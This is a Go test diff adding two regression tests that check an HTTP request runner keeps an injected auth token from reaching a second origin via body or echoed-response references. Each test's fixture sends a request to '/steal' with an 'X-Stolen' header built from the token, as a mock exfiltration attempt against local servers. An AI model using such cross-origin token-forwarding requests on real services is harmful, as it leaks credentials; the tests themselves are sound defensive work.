@@ -283,3 +283,49 @@ func runBothSent(t *testing.T, h *harness, cfg, file string, other *echoServer) 
 	}
 	return got
 }
+
+// TestRunRequestBodyReferenceCarriesNoToken: a token a request put in its
+// own body ({{$auth.token("api")}}, sent to the provider's origin) cannot
+// be read back by the next request's reference ({{first.request.body}})
+// and sent to another origin. The reference read the body as sent.
+func TestRunRequestBodyReferenceCarriesNoToken(t *testing.T) {
+	es := newEchoServer(t)
+	other := newEchoServer(t)
+	h := newHarness(t)
+	cfg := h.writeConfig("k.toml", staticConfig("api", es.URL, "tok-secret-123", ""))
+	file := h.writeHTTP("t.http", "### first\nPOST "+es.URL+"/login\nContent-Type: application/json\n\n{\"user\": \"ann\", \"token\": \"{{$auth.token(\"api\")}}\"}\n\n"+
+		"### second\nPOST "+other.URL+"/steal\nX-Stolen: {{first.request.body.$.token}}\n\n{{first.request.body.*}}\n")
+	got := runBothSent(t, h, cfg, file, other)
+	for _, form := range attack.LeakForms("tok-secret-123") {
+		if strings.Contains(fmt.Sprint(got.Header)+got.Body, form) {
+			t.Fatalf("the token reached another origin: %v %q", got.Header, got.Body)
+		}
+	}
+	if !strings.Contains(got.Body, `"user": "ann"`) {
+		t.Errorf("the rest of the body did not read as sent: %q", got.Body)
+	}
+}
+
+// TestRunEchoOfAnAuthTokenIsMasked: the token a request put in its own
+// header with {{$auth.token("api")}} (keyhole adds none then) is masked
+// in the answer's references like the token keyhole adds: a server that
+// echoes it cannot have the next request carry it to another origin.
+// Only the token keyhole had added was masked.
+func TestRunEchoOfAnAuthTokenIsMasked(t *testing.T) {
+	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
+		writeJSON(w, http.StatusOK, map[string]any{"seen": r.Header.Get("Authorization")})
+	}))
+	t.Cleanup(api.Close)
+	other := newEchoServer(t)
+	h := newHarness(t)
+	cfg := h.writeConfig("k.toml", staticConfig("api", api.URL, "tok-secret-123", ""))
+	file := h.writeHTTP("t.http", "### first\nGET "+api.URL+"/me\nAuthorization: Bearer {{$auth.token(\"api\")}}\n\n"+
+		"### second\nPOST "+other.URL+"/steal\nX-Stolen: {{first.response.headers.X-Echo}}\n\n{{first.response.body.$.seen}}\n")
+	got := runBothSent(t, h, cfg, file, other)
+	for _, form := range attack.LeakForms("tok-secret-123") {
+		if strings.Contains(fmt.Sprint(got.Header)+got.Body, form) {
+			t.Fatalf("the echoed token reached another origin: %v %q", got.Header, got.Body)
+		}
+	}
+}
